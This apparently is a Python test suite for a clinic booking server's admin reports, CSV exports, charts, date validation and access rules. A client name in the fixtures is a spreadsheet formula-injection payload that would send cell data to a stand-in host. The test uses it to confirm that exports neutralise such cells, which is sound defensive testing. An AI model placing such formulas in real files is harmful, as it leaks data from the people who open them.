"""The admin's reports (/admin/reports/...) and the desk's day figures
(/staff/figures) against the real server, with the clock pinned and a
known week of appointments, time off, a closed day, a referral and
insurance checks: the figures a clinic owner would read, the comparison
with the period before, the CSV download (same figures, RFC 4180, no cell
that a spreadsheet runs as a formula), the SVG charts' accessible names,
bad ranges refused with a reason, and who may see what.

usage: test_reports.py PATH/TO/knead"""
import csv
import io
import os
import re
import sqlite3
import sys
import time
import unittest
from datetime import datetime
from zoneinfo import ZoneInfo

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from harness import Browser, Server, finish, run_suite, signed_in, text  # noqa: E402

KNEAD = sys.argv[1] if len(sys.argv) > 1 else 'build-san/knead'
ADMIN = 'admin@chugachbodywork.example'
DESK = 'desk@chugachbodywork.example'
THERAPIST = 'maren@chugachbodywork.example'
TZ = ZoneInfo('America/Anchorage')
NOW = '2026-03-10T09:00:00-08:00'
WEEK = 'from=2026-02-02&to=2026-02-08'  # Monday to Sunday
S = None
ANA = None  # the client with a referral
EVIL = '=HYPERLINK("http://x.example/?"&A1, "click"), or +1'


def at(day, hhmm):
    y, m, d = map(int, day.split('-'))
    h, mi = map(int, hhmm.split(':'))
    return int(datetime(y, m, d, h, mi, tzinfo=TZ).timestamp())


def client(name, email):
    return S.sql('INSERT INTO clients (name, email, phone, created_at) VALUES (?1, ?2, \'\', 0)'
                 ' RETURNING id', name, email)[0][0]


def appt(cid, therapist, day, hhmm, minutes, status, late=0, room=1):
    t = at(day, hhmm)
    cancelled = t - 3600 if status == 'cancelled' else None
    return S.sql(
        'INSERT INTO appointments (service_id, therapist_id, room_id, client_id, start_at, end_at,'
        ' busy_until, status, token_hash, source, created_at, cancelled_at, cancel_late)'
        " VALUES ('deep-tissue-60', ?1, ?2, ?3, ?4, ?5, ?5, ?6, randomblob(32), 'staff', 0, ?7,"
        ' ?8) RETURNING id', therapist, room, cid, t, t + minutes * 60, status, cancelled,
        late)[0][0]


def setUpModule():
    global S, ANA
    S = Server(KNEAD, extra=['--now', NOW, '--quiet'])
    S.run_cli('demo', '--db', S.db)
    S.seed = False
    ANA = client('Ana Alder', 'ana@example.com')
    bo = client('Bo Birch', 'bo@example.com')
    cy = client('Cy Cedar', 'cy@example.com')
    di = client(EVIL, 'di@example.com')
    # the previous week: Ana's first visit
    appt(ANA, 'maren-holt', '2026-01-27', '10:00', 60, 'completed')
    # the week reported (Maren: 1 h worked, 1 h no-show, 1 h still booked, 1 cancelled late)
    appt(ANA, 'maren-holt', '2026-02-02', '10:00', 60, 'completed')
    appt(bo, 'maren-holt', '2026-02-03', '13:00', 60, 'no_show')
    appt(cy, 'maren-holt', '2026-02-04', '09:00', 60, 'booked')
    appt(cy, 'maren-holt', '2026-02-04', '11:00', 60, 'cancelled', late=1)
    appt(di, 'dev-okafor', '2026-02-06', '12:00', 90, 'completed', room=2)
    # Ana's next visit, within six weeks of 2 February
    appt(ANA, 'maren-holt', '2026-03-01', '10:00', 60, 'booked')
    # Maren is off two hours on Tuesday; the clinic is closed on Thursday
    S.sql("INSERT INTO time_off (therapist_id, start_at, end_at, reason) VALUES"
          " ('maren-holt', ?1, ?2, 'dentist')", at('2026-02-03', '10:00'),
          at('2026-02-03', '12:00'))
    S.sql("INSERT INTO closed_dates (date, reason) VALUES ('2026-02-05', 'Storm')")
    S.sql("INSERT INTO referrals (client_id, physician, referred_on, diagnosis, visits,"
          " valid_until, created_at, updated_at) VALUES (?1, 'Dr. Ruth Alder', '2026-01-20',"
          " 'Low back pain', 6, '2026-03-20', 0, 0)", ANA)
    S.sql("INSERT INTO referrals (client_id, physician, referred_on, diagnosis, visits,"
          " valid_until, created_at, updated_at) VALUES (?1, 'Dr. Evil', '2026-02-01',"
          " 'Neck', 2, '2026-02-28', 0, 0)", di)
    for req, done, outcome in ((at('2026-02-02', '10:00'), at('2026-02-03', '10:00'), 'covered'),
                               (at('2026-02-04', '10:00'), at('2026-02-04', '12:00'), 'partial'),
                               (at('2026-02-05', '10:00'), 0, '')):
        S.sql("INSERT INTO insurance_checks (client_id, carrier, member_id, holder_name,"
              " holder_relation, requested_at, status, outcome, verified_at) VALUES"
              " (?1, 'Premera', 'M-1', 'Ana Alder', 'self', ?2, ?3, ?4, ?5)",
              ANA, req, 'done' if done else 'pending', outcome, done)
    S.start()


def tearDownModule():
    finish(S)


def admin():
    harness.clear_failures(S)
    return signed_in(ADMIN, server=S)


def table(csv_text):
    """{(section, name, measure): (this period, previous period)} of a report's CSV."""
    rows = list(csv.reader(io.StringIO(csv_text, newline='')))
    assert rows[0] == ['section', 'name', 'measure', 'this_period', 'previous_period', 'from',
                       'to'], rows[0]
    return {(r[0], r[1], r[2]): (r[3], r[4]) for r in rows[1:]}


def download(b, report, query=WEEK):
    st, h, body = b.get('/admin/reports/%s?%s&format=csv' % (report, query))
    assert st == 200, (st, body[:300])
    assert h['content-type'].startswith('text/csv'), h
    return h, body


class Utilisation(unittest.TestCase):
    def test_hours_to_book_follow_working_hours_breaks_time_off_and_closed_days(self):
        _, body = download(admin(), 'utilisation')
        t = table(body)
        # Maren: Mon-Thu 08:00-16:00 less a 30-minute break, Fri 08:00-14:00 less 30 min;
        # less 2 h off on Tuesday and all of Thursday (closed): 4 x 7.5 + 5.5 - 2 - 7.5
        self.assertEqual(t[('therapist', 'Maren Holt', 'available_hours')][0], '26.0')
        # booked: completed + no-show + still booked (the late cancellation is not)
        self.assertEqual(t[('therapist', 'Maren Holt', 'booked_hours')], ('3.0', '1.0'))
        self.assertEqual(t[('therapist', 'Maren Holt', 'worked_hours')], ('1.0', '1.0'))
        self.assertEqual(t[('therapist', 'Maren Holt', 'utilisation_percent')][0], '11.5')
        self.assertEqual(t[('therapist', 'Dev Okafor', 'booked_hours')][0], '1.5')
        self.assertEqual(t[('room', 'Spruce Room', 'booked_hours')][0], '3.0')
        self.assertEqual(t[('room', 'Birch Room', 'booked_hours')][0], '1.5')
        self.assertEqual(t[('weekday', 'Monday', 'booked_hours')][0], '1.0')
        self.assertEqual(t[('weekday', 'Friday', 'booked_hours')][0], '1.5')
        self.assertEqual(t[('weekday', 'Thursday', 'available_hours')][0], '0.0')
        self.assertEqual(t[('day', '2026-02-03', 'booked_hours')][0], '1.0')
        self.assertEqual(t[('summary', 'Hours booked', 'value')], ('4.5', '1.0'))

    def test_page_has_accessible_charts_with_the_figures_beside_them_and_no_script(self):
        st, _, page = admin().get('/admin/reports/utilisation?' + WEEK)
        self.assertEqual(st, 200)
        svgs = re.findall(r'<svg[^>]*>', page)
        self.assertEqual(len(svgs), 2)
        for svg in svgs:
            self.assertIn('role="img"', svg)
            ids = re.search(r'aria-labelledby="([^"]+)"', svg).group(1).split()
            for i in ids:
                self.assertRegex(page, r'<(title|desc) id="%s">[^<]+</' % re.escape(i))
        self.assertNotIn('<script', page)
        # each chart says which periods it compares
        self.assertEqual(len(re.findall(
            r'<desc id="[^"]+">This period: Monday, February 2 to Sunday, February 8; previous '
            r'period: Monday, January 26 to Sunday, February 1\. ', page)), 2)
        words = text(page)
        self.assertIn('Monday, February 2 to Sunday, February 8 (7 days)', words)
        self.assertIn('compared with Monday, January 26 to Sunday, February 1', words)
        self.assertIn('Hours booked 4.5 1.0 +350%', words)
        self.assertIn('Maren Holt 26.0 3.0 1.0 11.5', words)
        self.assertIn('href="/admin/reports/utilisation?from=2026-02-02&amp;to=2026-02-08'
                      '&amp;format=csv"', page)

    def test_the_default_is_the_four_weeks_up_to_yesterday(self):
        st, h, body = admin().get('/admin/reports/utilisation?format=csv')
        self.assertEqual(st, 200)
        row = list(csv.reader(io.StringIO(body, newline='')))[1]
        self.assertEqual(row[5:], ['2026-02-10', '2026-03-09'])
        self.assertIn('filename="utilisation-2026-02-10-to-2026-03-09.csv"',
                      h['content-disposition'])


class Attendance(unittest.TestCase):
    def test_no_show_and_late_cancel_rates(self):
        b = admin()
        t = table(download(b, 'attendance')[1])
        self.assertEqual(t[('therapist', 'Maren Holt', 'appointments')][0], '4')
        self.assertEqual(t[('therapist', 'Maren Holt', 'no_shows')][0], '1')
        # one no-show among the two that were due; one late among four
        self.assertEqual(t[('therapist', 'Maren Holt', 'no_show_rate_percent')][0], '50.0')
        self.assertEqual(t[('therapist', 'Maren Holt', 'late_cancel_rate_percent')][0], '25.0')
        self.assertEqual(t[('therapist', 'All therapists', 'no_show_rate_percent')], ('33.3', '0.0'))
        st, _, page = b.get('/admin/reports/attendance?' + WEEK)
        self.assertEqual(st, 200)
        self.assertIn('No-show rate 33.3% 0.0%', text(page))


class KeptPerVersion(unittest.TestCase):
    """Utilisation and attendance are kept whole per data version
    (web/admin_reports.c): asked again they are the same bytes; any change
    of the appointments or the clinic is in the next answer, from this
    server or a second one on the same database; the navigation's counts
    around a kept page are the current ones."""

    RANGE = 'from=2026-02-09&to=2026-02-15'   # the week after WEEK; nobody else books it

    def pending(self, page):
        return int(re.search(r'Insurance checks <span class="nav-count">\((\d+)', page).group(1))

    def test_any_change_is_in_the_next_answer(self):
        b = admin()
        other = Server(KNEAD, share=S, extra=['--now', NOW, '--quiet']).start()
        try:
            there = signed_in(ADMIN, server=other)
            for who in (b, there):
                self.assertEqual(download(who, 'utilisation', self.RANGE)[1],
                                 download(who, 'utilisation', self.RANGE)[1])
            before = table(download(b, 'utilisation', self.RANGE)[1])
            self.assertEqual(before[('therapist', 'Maren Holt', 'booked_hours')][0], '0.0')
            st, _, page = b.get('/admin/reports/utilisation?' + self.RANGE)
            self.assertEqual(st, 200)
            self.assertIn('Hours booked 0.0 4.5', text(page))
            # another writer books a past hour: both servers' next answers count it
            kim = client('Kim Kept', 'kim.kept@example.com')
            aid = appt(kim, 'maren-holt', '2026-02-10', '10:00', 60, 'completed')
            for who in (b, there):
                t = table(download(who, 'utilisation', self.RANGE)[1])
                self.assertEqual(t[('therapist', 'Maren Holt', 'booked_hours')][0], '1.0')
                self.assertIn('Hours booked 1.0 4.5',
                              text(who.get('/admin/reports/utilisation?' + self.RANGE)[2]))
            # a status: cancelled late
            self.assertEqual(table(download(b, 'attendance', self.RANGE)[1])[
                ('therapist', 'Maren Holt', 'late_cancellations')][0], '0')
            S.sql("UPDATE appointments SET status = 'cancelled', cancel_late = 1,"
                  " cancelled_at = start_at - 3600 WHERE id = ?1", aid)
            for who in (b, there):
                self.assertEqual(table(download(who, 'attendance', self.RANGE)[1])[
                    ('therapist', 'Maren Holt', 'late_cancellations')][0], '1')
            # the clinic: a therapist's name
            S.sql("UPDATE therapists SET name = 'Maren Kept' WHERE id = 'maren-holt'")
            try:
                for who in (b, there):
                    self.assertIn(('therapist', 'Maren Kept', 'appointments'),
                                  table(download(who, 'attendance', self.RANGE)[1]))
            finally:
                S.sql("UPDATE therapists SET name = 'Maren Holt' WHERE id = 'maren-holt'")
            # the navigation around a kept page is counted each time
            url = '/admin/reports/attendance?' + self.RANGE
            n = self.pending(b.get(url)[2])
            S.sql("INSERT INTO insurance_checks (client_id, carrier, member_id, holder_name,"
                  " holder_relation, requested_at, status, outcome, verified_at) VALUES"
                  " (?1, 'Premera', 'M-9', 'Kim Kept', 'self', ?2, 'pending', '', 0)",
                  kim, at('2026-03-09', '10:00'))
            try:
                self.assertEqual(self.pending(b.get(url)[2]), n + 1)
            finally:
                S.sql("DELETE FROM insurance_checks WHERE member_id = 'M-9'")
        finally:
            finish(other)


class Clients(unittest.TestCase):
    def test_new_returning_and_rebooked_within_six_weeks(self):
        t = table(download(admin(), 'clients')[1])
        self.assertEqual(t[('summary', 'Clients seen', 'value')], ('2', '1'))
        self.assertEqual(t[('summary', 'New clients', 'value')], ('1', '1'))
        self.assertEqual(t[('summary', 'Returning clients', 'value')], ('1', '0'))
        # Ana comes back on 1 March; Di's six weeks are not over on 10 March
        self.assertEqual(t[('summary', 'Rebooked within 6 weeks', 'value')], ('1', '1'))
        self.assertEqual(t[('summary', 'Not yet rebooked, 6 weeks not over', 'value')][0], '1')
        self.assertEqual(t[('summary', 'Rebooking rate', 'value')][0], '100.0%')

    def test_a_report_kept_is_not_kept_past_a_change(self):
        b = admin()
        first = table(download(b, 'clients')[1])
        self.assertEqual(table(download(b, 'clients')[1]), first)  # the kept copy
        # Di books again within her six weeks: rebooked, no longer waiting
        di = S.sql("SELECT id FROM clients WHERE email = 'di@example.com'")[0][0]
        extra = appt(di, 'dev-okafor', '2026-03-12', '12:00', 60, 'booked', room=2)
        try:
            t = table(download(b, 'clients')[1])
            self.assertEqual(t[('summary', 'Rebooked within 6 weeks', 'value')], ('2', '1'))
            self.assertEqual(t[('summary', 'Not yet rebooked, 6 weeks not over', 'value')][0],
                             '0')
        finally:
            S.sql('DELETE FROM appointments WHERE id = ?1', extra)
        self.assertEqual(table(download(b, 'clients')[1]), first)


class Referrals(unittest.TestCase):
    def test_visits_used_against_allowed_and_expiring_soon_and_each_read_audited(self):
        before = S.sql("SELECT count(*) FROM audit_log WHERE record = 'referral'")[0][0]
        b = admin()
        st, _, page = b.get('/admin/reports/referrals?' + WEEK)
        self.assertEqual(st, 200)
        words = text(page)
        # Ana: 2 completed in the window, 1 booked, 4 left; expires 20 March, in ten days
        self.assertIn('Ana Alder Dr. Ruth Alder 2026-01-20 to 2026-03-20 6 2 1 4 yes', words)
        # both referrals meet the week before too (Di's from 1 February)
        self.assertIn('Referrals in force 2 2 no change', words)
        self.assertIn('Visits used in the period 2 1 +100%', words)
        after = S.sql("SELECT count(*) FROM audit_log WHERE record = 'referral'"
                      " AND action = 'read'")[0][0]
        self.assertEqual(after - before, 2)

    def test_csv_cells_never_run_as_formulas(self):
        _, body = download(admin(), 'referrals')
        # the client's name starts with '=': quoted, prefixed, quotes doubled
        self.assertIn('"\'=HYPERLINK(""http://x.example/?""&A1, ""click""), or +1"', body)
        t = table(body)
        self.assertIn(('referral', "'" + EVIL, 'doctor'), t)
        for key in t:
            self.assertNotIn(key[1][:1], '=+-@')
        self.assertTrue(body.endswith('\r\n'))


class Insurance(unittest.TestCase):
    def test_requested_done_and_median_time_to_outcome(self):
        b = admin()
        t = table(download(b, 'insurance')[1])
        self.assertEqual(t[('summary', 'Checks requested', 'value')], ('3', '0'))
        self.assertEqual(t[('summary', 'Checks done', 'value')][0], '2')
        # 24 h and 2 h: the median is 13 h
        self.assertEqual(t[('summary', 'Median time to an outcome', 'value')][0], '13 h 0 min')
        self.assertEqual(t[('outcome', 'Covered', 'checks')][0], '1')
        self.assertEqual(t[('outcome', 'Pending', 'checks')][0], '1')


class DeskDay(unittest.TestCase):
    def test_the_desk_sees_the_days_figures(self):
        harness.clear_failures(S)
        b = signed_in(DESK, server=S)
        st, _, page = b.get('/staff/figures?date=2026-02-04')
        self.assertEqual(st, 200)
        self.assertRegex(page, r'id="fig-appointments">2<')
        self.assertRegex(page, r'id="fig-late">1<')
        self.assertRegex(page, r'id="fig-booked">1<')
        self.assertIn('Maren Holt 7.5 1.0 13.3%', text(page))
        self.assertEqual(b.get('/staff/figures?date=2026-02-30')[0], 400)
        self.assertEqual(b.get('/staff/figures?when=today')[0], 400)


class Refused(unittest.TestCase):
    def test_bad_ranges_are_refused_with_a_reason(self):
        b = admin()
        cases = [
            ('from=2026-02-02&to=2026-02-01', 422, "The 'to' date is before the 'from' date."),
            ('from=2025-01-01&to=2026-01-02', 422, 'at most 366 days'),
            ('from=2026-2-1', 400, "The date 'from' must look like 2026-11-24."),
            ('to=yesterday', 400, "The date 'to' must look like"),
            ('from=2026-02-01&from=2026-02-02', 400, "Parameter 'from' is given more than once."),
            ('format=xlsx', 400, 'The format must be csv or html.'),
            ('days=7', 400, "Unknown parameter 'days'."),
        ]
        for query, status, msg in cases:
            st, _, page = b.get('/admin/reports/utilisation?' + query)
            self.assertEqual(st, status, query)
            self.assertIn(msg, text(page), query)
        self.assertEqual(b.get('/admin/reports/clients?from=2025-01-02&to=2026-01-02')[0], 200)

    def test_only_the_admin_sees_the_reports(self):
        for who in (DESK, THERAPIST):
            harness.clear_failures(S)
            b = signed_in(who, server=S)
            for path in ('/admin/reports', '/admin/reports/utilisation',
                         '/admin/reports/referrals?format=csv'):
                self.assertEqual(b.get(path)[0], 403, (who, path))
        harness.clear_failures(S)
        self.assertEqual(signed_in(THERAPIST, server=S).get('/staff/figures')[0], 403)
        st, h, _ = Browser(S).get('/admin/reports/insurance?format=csv')
        self.assertIn(st, (302, 303))
        self.assertIn('/login', h['location'])


class Revenue(unittest.TestCase):
    """The desk checks a visit out today through the ledger's own pages
    (invoice issued with a tip, paid by card); the admin's revenue report
    counts it by service, therapist and method; the desk may not see it."""

    def test_revenue_by_service_therapist_and_method(self):
        harness.clear_failures(S)
        desk = signed_in(DESK, server=S)
        t = at('2026-03-10', '08:00')  # today, before the pinned 09:00
        cid = client('Eve Elm', 'eve@example.com')
        aid = S.sql("INSERT INTO appointments (service_id, therapist_id, room_id, client_id,"
                    " start_at, end_at, busy_until, status, token_hash, source, created_at)"
                    " VALUES ('swedish-60', 'lena-kusugak', 3, ?1, ?2, ?3, ?3, 'checked_in',"
                    " randomblob(32), 'staff', 0) RETURNING id", cid, t, t + 3600)[0][0]
        once = re.compile(r'name="once" value="([^"]+)"')
        _, _, page = desk.get('/staff/appointments/%d/checkout' % aid)
        st, _, page = desk.post('/staff/appointments/%d/checkout' % aid, {
            'once': once.findall(page)[0], 'action': 'issue', 'discount_kind': 'none',
            'tip': '10.00'})
        self.assertEqual(st, 303, text(page)[:400])
        inv, total, tip = S.sql('SELECT id, total_cents, tip_cents FROM invoices'
                                ' WHERE appointment_id = ?1', aid)[0]
        self.assertEqual(tip, 1000)
        _, _, page = desk.get('/staff/appointments/%d/checkout' % aid)
        st, _, page = desk.post('/staff/invoices/%d/payments' % inv, {
            'once': once.findall(page)[0], 'method': 'card', 'reference': 'T-1',
            'amount': '%d.%02d' % (total // 100, total % 100)})
        self.assertEqual(st, 303, text(page)[:400])
        paid = S.sql("SELECT sum(amount_cents) FROM payments WHERE invoice_id = ?1", inv)[0][0]
        self.assertEqual(paid, total)

        def cents(c):
            return '%d.%02d' % (c // 100, c % 100)
        st, _, body = admin().get('/admin/reports/revenue?from=2026-03-10&to=2026-03-10'
                                  '&format=csv')
        self.assertEqual(st, 200)
        r = table(body)
        self.assertEqual(r[('summary', 'Invoices issued', 'value')], ('1', '0'))
        self.assertEqual(r[('service', 'Swedish Relaxation Massage (60 minutes)', 'revenue')],
                         (cents(total - tip), '0.00'))
        self.assertEqual(r[('therapist', 'Lena Kusugak', 'revenue')][0], cents(total - tip))
        self.assertEqual(r[('therapist', 'Lena Kusugak', 'tips')][0], '10.00')
        self.assertEqual(r[('method', 'Card (terminal)', 'taken')][0], cents(total))
        st, _, page = admin().get('/admin/reports/revenue?from=2026-03-10&to=2026-03-10')
        self.assertEqual(st, 200)
        self.assertIsNotNone(re.search(r'<svg[^>]*role="img"[^>]*>\s*<title id="chart-revenue-title">'
                                       r'Revenue by service</title>', page))
        self.assertEqual(signed_in(DESK, server=S).get('/admin/reports/revenue')[0], 403)


class HeldLock(unittest.TestCase):
    """Another program holds the database's write lock (BEGIN IMMEDIATE, as
    tests/http/test_db_faults.py does; SQLite's own connection, since the
    point is a lock from outside): the reports that only read answer at
    once; the referrals report, which must log each referral it shows,
    answers 503 after the busy wait, shows no referral and logs nothing."""

    @harness.sqlite_only("SQLite's write lock (BEGIN IMMEDIATE)")
    def test_reads_answer_and_the_audited_report_waits_then_says_busy(self):
        b = admin()
        before = S.sql("SELECT count(*) FROM audit_log WHERE record = 'referral'")[0][0]
        lock = sqlite3.connect(S.db, isolation_level=None, timeout=10)
        try:
            lock.execute('BEGIN IMMEDIATE')
            t0 = time.monotonic()
            st, _, _ = b.get('/admin/reports/utilisation?' + WEEK)
            self.assertEqual(st, 200)
            self.assertLess(time.monotonic() - t0, 3, 'a report that only reads waited')
            st, h, page = b.get('/admin/reports/referrals?' + WEEK)
            self.assertEqual(st, 503, page[:300])
            self.assertEqual(h.get('retry-after'), '5')
            self.assertIn('busy', text(page))
            self.assertNotIn('Dr. Ruth Alder', page)
            self.assertNotIn('SQLITE', page.upper())
        finally:
            if lock.in_transaction:
                lock.execute('ROLLBACK')
            lock.close()
        self.assertEqual(S.sql("SELECT count(*) FROM audit_log WHERE record = 'referral'")[0][0],
                         before)
        self.assertEqual(b.get('/admin/reports/referrals?' + WEEK)[0], 200)


if __name__ == '__main__':
    run_suite(globals())
